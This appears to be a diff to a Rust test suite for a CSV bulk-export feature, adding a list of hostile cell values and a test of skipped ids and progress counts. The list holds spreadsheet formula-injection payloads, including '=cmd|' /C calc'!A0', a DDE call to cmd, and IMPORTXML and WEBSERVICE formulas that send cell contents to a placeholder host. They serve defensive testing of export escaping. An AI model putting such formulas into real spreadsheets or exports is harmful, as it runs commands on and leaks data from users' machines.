@@ -33,6 +33,46 @@ const HOSTILE: &[&str] = &[
     "%x",
     "客户 ünïcode",
     "١٢٣",
+    "=",
+    "+",
+    "-",
+    "@",
+    "'",
+    "''",
+    "'+1",
+    "'-1",
+    "'@x",
+    "'＝1",
+    "==1",
+    "-=1",
+    "=-1",
+    "=1+1\";=1+1",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=IMPORTXML(CONCAT(\"http://x/?v=\", A1), \"//a\")",
+    "=WEBSERVICE(\"http://x\")",
+    "＋1",
+    "－1",
+    "＠x",
+    "\u{feff}=1",
+    "\u{200e}=1",
+    "\u{202e}=1",
+    "\u{2060}=1",
+    "\u{ad}=1",
+    "\u{200b}\u{feff}+1",
+    "\"=1\"",
+    "\"",
+    ",",
+    ";=1",
+    "=1,=2",
+    "=1;=2",
+    "«=»",
+    "1-2",
+    "-1.5e3",
+    "+49 (151) 1",
 ];
 
 async fn hostile(server: &Server) {
@@ -44,7 +84,15 @@ async fn hostile(server: &Server) {
             phone: if n % 2 == 0 { format!("+49151123456{n:02}") } else { format!("0151 1{n}") },
             external_id: format!("={n}"),
             lifecycle: Some(Lifecycle::ALL[n % 4]),
-            tags: vec![format!("-tag {n}"), "annual".into()],
+            // No name of a tag holds what parts them, or what nobody sees.
+            tags: vec![
+                format!("-tag {n}"),
+                text.chars().filter(|c| c.is_ascii() && !",;".contains(*c)).collect(),
+                "annual".into(),
+            ]
+            .into_iter()
+            .filter(|name: &String| !name.trim().is_empty())
+            .collect(),
             segments: vec!["=Segment".into()],
             ltv_minor: Some(n as i64 * 101 - 500),
             first_seen: Some(At(1_700_000_000_000 + n as i64 * 1_000)),
@@ -166,6 +214,16 @@ async fn a_file_is_fetched_once_by_who_asked_for_it_and_says_how_far_it_is() {
         let file = get(&server, &cookie, &format!("?key={}", some["key"].as_str().unwrap())).await;
         let names: Vec<String> = cells(&file.body).iter().skip(1).map(|row| row[0].clone()).collect();
         assert_eq!(names, ["ann", "cleo"]);
+        // Who is named and not there is skipped, and the count says so.
+        let named = prepare(&server, &cookie, serde_json::json!({ "these": [ids[2], "00000000001", ids[0]] })).await;
+        let named: serde_json::Value = serde_json::from_str(&named.body).unwrap();
+        let key = named["key"].as_str().unwrap();
+        let file = get(&server, &cookie, &format!("?key={key}")).await;
+        assert_eq!(cells(&file.body).len(), 3, "heads and two rows");
+        let body = serde_json::json!({ "key": key }).to_string();
+        let far = server.json("/api/bulk/csv_file", &body, Some(&cookie)).await;
+        let far: serde_json::Value = serde_json::from_str(&far.body).unwrap();
+        assert_eq!((&far["total"], &far["rows"], &far["status"]), (&3.into(), &2.into(), &"done".into()));
         // Stopped before it was fetched.
         let stopped =
             prepare(&server, &cookie, serde_json::json!({ "matching": { "address": "", "except": [ids[0]] } })).await;
